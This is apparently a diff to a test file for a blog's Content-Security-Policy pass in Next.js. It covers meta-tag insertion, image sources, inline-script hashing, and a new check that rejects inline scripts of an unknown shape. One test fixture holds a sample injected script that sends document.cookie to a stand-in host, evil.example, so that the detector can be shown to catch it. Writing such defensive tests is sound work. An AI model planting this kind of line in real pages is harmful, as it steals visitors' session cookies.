@@ -1,6 +1,7 @@
 import { createHash } from 'node:crypto';
 import {
   applyPagePolicy,
+  unknownInlineScripts,
   blogSources,
   buildPagePolicy,
   inlineScriptHashes,
@@ -94,6 +95,7 @@ describe('page policy', () => {
   it("loads images only from the site and the blog's image hosts", () => {
     expect(directive(policy, 'img-src')).toEqual([
       "'self'",
+      'data:',
       'https://*.wp.com',
       'https://*.files.wordpress.com',
       'https://public-api.wordpress.com',
@@ -116,13 +118,14 @@ describe('page policy', () => {
 
 describe('meta insertion', () => {
   const sources = blogSources({});
+  const FLIGHT = 'self.__next_f.push([1,"a"])';
 
   it('puts the policy right after the charset declaration, before every script and stylesheet', () => {
-    const html = page('<link rel="stylesheet" href="/a.css"/><script src="/a.js"></script><script>a()</script>');
+    const html = page(`<link rel="stylesheet" href="/a.css"/><script src="/a.js"></script><script>${FLIGHT}</script>`);
     const out = applyPagePolicy(html, sources);
     expect(out.indexOf('<meta charSet="utf-8"/><meta http-equiv="Content-Security-Policy"')).toBeGreaterThan(0);
     expect(out.indexOf('Content-Security-Policy')).toBeLessThan(out.indexOf('<link'));
-    expect(directive(metaPolicy(out), 'script-src')).toEqual(["'self'", sha('a()')]);
+    expect(directive(metaPolicy(out), 'script-src')).toEqual(["'self'", sha(FLIGHT)]);
   });
 
   it('is the first child of <head> when there is no charset declaration first', () => {
@@ -133,7 +136,7 @@ describe('meta insertion', () => {
   });
 
   it('gives the same page on a second run instead of stacking policies', () => {
-    const html = page('<script>a()</script>');
+    const html = page(`<script>${FLIGHT}</script>`);
     const once = applyPagePolicy(html, sources);
     expect(applyPagePolicy(once, sources)).toBe(once);
   });
@@ -143,5 +146,20 @@ describe('meta insertion', () => {
     expect(() => insertCspMeta('<script>a()</script><html><head></head></html>', "default-src 'self'")).toThrow(
       /precedes/,
     );
+  });
+});
+
+describe('strict inline scripts', () => {
+  const sources = blogSources({});
+
+  it('refuses to hash an inline script of a shape Next does not write, naming it', () => {
+    const html = page('<script>(self.__next_f=self.__next_f||[]).push([0])</script><script>fetch("//evil.example/?"+document.cookie)</script>');
+    expect(unknownInlineScripts(html)).toEqual(['fetch("//evil.example/?"+document.cookie)']);
+    expect(() => applyPagePolicy(html, sources)).toThrow(/1 inline script\(s\) of a shape the CSP pass does not know[\s\S]*evil\.example/);
+  });
+
+  it('ignores data blocks such as JSON-LD, whatever they hold', () => {
+    const html = page('<script type="application/ld+json">{"name":"alert(1)"}</script>');
+    expect(unknownInlineScripts(html)).toEqual([]);
   });
 });
